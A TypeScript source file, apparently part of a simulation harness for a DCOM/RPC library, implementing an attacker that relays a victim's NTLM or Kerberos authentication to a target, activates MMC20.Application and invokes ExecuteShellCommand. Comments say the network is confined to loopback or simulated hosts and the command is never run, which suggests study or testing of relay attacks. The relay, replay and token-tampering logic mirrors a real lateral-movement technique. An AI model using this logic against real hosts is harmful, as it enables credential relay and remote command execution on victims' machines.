import { type ActivationMethod, activateOver } from '../client/activate.js';
import { Automation } from '../client/automation.js';
import { exporterTargets, type Target } from '../client/bindings.js';
import { RpcConnection } from '../client/connection.js';
import { ContextConnection } from '../client/context-connection.js';
import { ExporterConnection } from '../client/exporter-connection.js';
import { type CallOutcome, outcomeOfError } from '../client/outcome.js';
import { PingSet } from '../client/ping-set.js';
import { CLIENT_PROFILES } from '../client/profiles.js';
import { Refused } from '../client/refused.js';
import { type Exporter, RemoteInterface } from '../client/remote-interface.js';
import { pinging } from '../client/resolver-client.js';
import {
  type ActivationReply,
  IActivation,
  IRemoteSCMActivator,
  IRemUnknown,
  type OBJREF,
} from '../codec/dcom/index.js';
import type { InterfaceDef } from '../codec/ndr/index.js';
import { isNtlm } from '../codec/ntlm/index.js';
import { IDispatch } from '../codec/oaut/index.js';
import { type Pdu, RPC_C_AUTHN } from '../codec/rpce/index.js';
import { decodeNegToken, NEG_STATE } from '../codec/spnego/index.js';
import type { Environment } from '../net/environment.js';
import { changedNetwork } from '../net/network.js';
import type { ClientSecurityOptions } from '../rpc/index.js';
import type { Milliseconds } from '../security/index.js';
import { claiming } from './claims.js';
import { gate } from './gate.js';
import { RelayedHandshake } from './handshake.js';
import { RelayedInitiator } from './keyless-contexts.js';
import { tampered } from './tamper.js';
import type { RelayVariant } from './variants.js';

export const CLSID_MMC20 = '49b2791a-b1ae-4c90-9b8e-e860ba07f889';

/** How far a relay came. `bound`: the victim's last token is with the server; whether it was believed shows later. */
export const STAGES = ['lured', 'bound', 'activated', 'exporter reached', 'invoked'] as const;
/** What the attacker does with the session, in this order. */
export type Stage = (typeof STAGES)[number];

/** A class that somebody asks for: what the victim's application wants of the lure, and the attacker of the server. */
export interface WantedClass {
  readonly clsid: string;
  readonly iids: readonly string[];
  /** RemoteCreateInstance where absent. */
  readonly method?: ActivationMethod;
}

/** Automation that the attacker goes on to call, whatever interfaces the victim asked for. */
export const MMC20: WantedClass = { clsid: CLSID_MMC20, iids: [IDispatch.uuid] };

/** Its network is confined to loopback or simulated hosts. */
export interface AttackerOptions extends Environment {
  /** Where the attacker's connections come from. */
  readonly address: string;
  readonly target: Target;
  readonly variant: RelayVariant;
  /** Of any other class than MMC20.Application it wants only the activation. MMC20.Application where absent. */
  readonly wanted?: WantedClass;
  /** The target's service name, for tickets that are given it. */
  readonly service?: string | undefined;
  /** Has a victim authenticate, and gives that authentication. */
  readonly lure: () => Promise<RelayedHandshake>;
  readonly timeout: Milliseconds;
  /** Written down by the simulated server, and run by nobody. */
  readonly command: readonly [command: string, directory: string, parameters: string, windowState: string];
}

/** auth_context_id of impacket's relay client. */
const AUTH_CONTEXT_ID = 79231;
const { association } = CLIENT_PROFILES.impacket;
const METHOD = 'Document.ActiveView.ExecuteShellCommand';

/**
 * Somebody in the middle who acts as the victim without knowing a key: each connection takes one authentication of the
 * victim's, since a security context belongs to its connection ([MS-RPCE] 3.3.1.5.2.1).
 */
export class Attacker {
  readonly #options: AttackerOptions;
  readonly #connections: RpcConnection[] = [];
  #handshake: RelayedHandshake | undefined;
  /** The victim's tokens as they went to the target, where they are to go there again. */
  readonly #recorded: Uint8Array[] = [];
  stage: Stage = 'lured';

  constructor(options: AttackerOptions) {
    this.#options = options;
  }

  /** Activates, unless a reference is known, and calls where that is what he is after. Being stopped is an outcome. */
  async attack(known?: ActivationReply): Promise<CallOutcome> {
    try {
      const reply = known ?? (await this.#activate());
      if (known === undefined && goalOf(this.#options.wanted) === 'activated')
        return { accepted: true, status: 0, text: 'activated' };
      await this.#invoke(reply);
      this.stage = 'invoked';
      return { accepted: true, status: 0, text: 'invoked' };
    } catch (error) {
      return error instanceof Refused ? error.outcome : outcomeOfError(error);
    }
  }

  close(): void {
    for (const connection of this.#connections) connection.close();
  }

  /** [MS-DCOM] 3.1.2.5.2.3: the activation, as the victim. */
  async #activate(): Promise<ActivationReply> {
    const { target, random, variant, wanted = MMC20 } = this.#options;
    const { clsid, iids, method = 'RemoteCreateInstance' } = goalOf(wanted) === 'invoked' ? MMC20 : wanted;
    const older = method === 'RemoteActivation';
    const activator = older ? IActivation : IRemoteSCMActivator;
    const again = variant.kerberos?.replayed ? await this.#letThrough(activator) : undefined;
    const { connection, security } = await this.#connect(target, again);
    const contexts = new ContextConnection({ connection, security });
    await this.#bound(() => contexts.context(activator));
    this.stage = 'bound';
    const { outcome, reply } = await activateOver(contexts, {
      ...{ clsid, iids, method },
      flags: older ? 0 : 1,
      random,
      authnLevel: variant.bindLevel,
    });
    if (reply === undefined) throw new Refused('the relayed activation', outcome);
    this.stage = 'activated';
    return reply;
  }

  /** The victim's authentication reaches the target as it was meant; what was sent is kept, to be sent again. */
  async #letThrough(activator: InterfaceDef): Promise<RelayedHandshake> {
    const { connection, security } = await this.#connect(this.#options.target);
    await this.#bound(() => new ContextConnection({ connection, security }).context(activator));
    const { authType, victimLevel, victim } = this.#handshake as RelayedHandshake;
    const again = new RelayedHandshake(authType, victimLevel, victim);
    for (const token of this.#recorded) again.fromVictim.put(token);
    again.fromVictim.fail(new Error('nothing further was recorded'));
    return again;
  }

  /** A second authentication of the victim's, for the exporter's port; then calls by IDispatch. */
  async #invoke(reply: ActivationReply): Promise<void> {
    const { random, target, command } = this.#options;
    const [exporterTarget] = exporterTargets(reply.bindings, { host: target.host });
    const objref = reply.interfaces.find(({ iid }) => iid === IDispatch.uuid)?.objref;
    if (exporterTarget === undefined || !objref || objref instanceof Uint8Array || !('std' in objref))
      throw new TypeError('the activation gave no IDispatch that can be reached over TCP');
    const { connection, security } = await this.#connect(exporterTarget);
    const orpc = new ExporterConnection({ connection, security, random });
    const exporter: Exporter = {
      oxid: reply.oxid,
      ipidRemUnknown: reply.ipidRemUnknown,
      remoteUnknown: IRemUnknown,
      network: this.#options.network,
      connection: orpc,
      pings: new PingSet(pinging(() => Promise.reject(new Error('the relay does not ping')))),
    };
    const application = new RemoteInterface(exporter, objref.iid, objref.std);
    const automation = new Automation({ unmarshal: async (found) => interfaceOf(exporter, found) });
    await this.#bound(() => automation.idsOf(application, ['Document']));
    this.stage = 'exporter reached';
    await automation.invoke(application, METHOD, ...command);
  }

  /** Where the server ends the handshake, the victim must not wait for it. */
  async #bound<T>(negotiate: () => Promise<T>): Promise<T> {
    try {
      return await negotiate();
    } catch (error) {
      this.#handshake?.abandon(error as Error);
      throw error;
    }
  }

  async #connect(
    target: Target,
    again?: RelayedHandshake,
  ): Promise<{ connection: RpcConnection; security: ClientSecurityOptions }> {
    const { variant, network, address, lure, random, clock, monotonic, timers, timeout } = this.#options;
    const handshake = again ?? (await lure());
    this.#handshake = handshake;
    const { authType } = handshake;
    const context = new RelayedInitiator(authType, await this.#fromVictim(handshake));
    const own = changedNetwork(network, {
      connect: async (next, to, accept, patience) => {
        const channel = await next(
          { ...to, localAddress: address },
          (opened) =>
            gate(accept(opened), {
              before: (pdu) => this.#relay(pdu, handshake, context),
              destroy: () => opened.destroy(),
            }),
          patience,
        );
        return claiming(channel, variant.claim, {
          authType,
          mechanism: variant.kerberos === undefined ? 'NTLM' : 'Kerberos',
          authContextId: AUTH_CONTEXT_ID,
          random,
          firstSequence: () => handshake.victimSigned,
        });
      },
    });
    const how = { network: own, random, clock, monotonic, timers, timeout };
    const connection = await RpcConnection.open({ ...target, ...how, association });
    this.#connections.push(connection);
    return { connection, security: { context, level: variant.bindLevel, authContextId: AUTH_CONTEXT_ID } };
  }

  async #fromVictim(handshake: RelayedHandshake): Promise<Uint8Array> {
    const token = await handshake.fromVictim.take();
    if (handshake.authType === RPC_C_AUTHN.GSS_NEGOTIATE && hasMic(token)) handshake.victimSigned++;
    const { variant, service } = this.#options;
    const sent = tampered(token, variant.tampering, service);
    if (variant.kerberos?.replayed) this.#recorded.push(sent);
    return sent;
  }

  /** A token of the server's goes to the victim, and its answer has to be there before the server's PDU is taken. */
  async #relay(pdu: Pdu, handshake: RelayedHandshake, context: RelayedInitiator): Promise<void> {
    if (pdu.PTYPE !== 'bind_ack' && pdu.PTYPE !== 'alter_context_resp') return;
    if (pdu.auth === undefined || pdu.auth.auth_value.length === 0) return;
    const token = Buffer.from(pdu.auth.auth_value);
    const done = handshake.authType === RPC_C_AUTHN.GSS_NEGOTIATE && isLast(token);
    handshake.toVictim.put({ token: tampered(token, this.#options.variant.tampering), done });
    if (!done) context.next = await this.#fromVictim(handshake);
  }
}

/** What a relay is after: a command where the class is known to take one, else the activation itself. */
export const goalOf = (wanted: WantedClass = MMC20): 'activated' | 'invoked' =>
  wanted.clsid === CLSID_MMC20 ? 'invoked' : 'activated';

/** [MS-SPNG] 3.1.5.1: a mechListMIC is the first thing that the victim signs. */
const hasMic = (token: Uint8Array): boolean => !isNtlm(token) && decodeNegToken(token).mechListMIC !== undefined;

/** RFC 4178 4.2.2: after accept-completed the client has nothing more to say. */
function isLast(token: Uint8Array): boolean {
  const outer = decodeNegToken(token);
  return outer.kind === 'NegTokenResp' && outer.negState === NEG_STATE.ACCEPT_COMPLETED;
}

function interfaceOf(exporter: Exporter, objref: OBJREF): RemoteInterface {
  if (!('std' in objref)) throw new TypeError('an OBJREF of this form has no interface to call');
  return new RemoteInterface(exporter, objref.iid, objref.std);
}
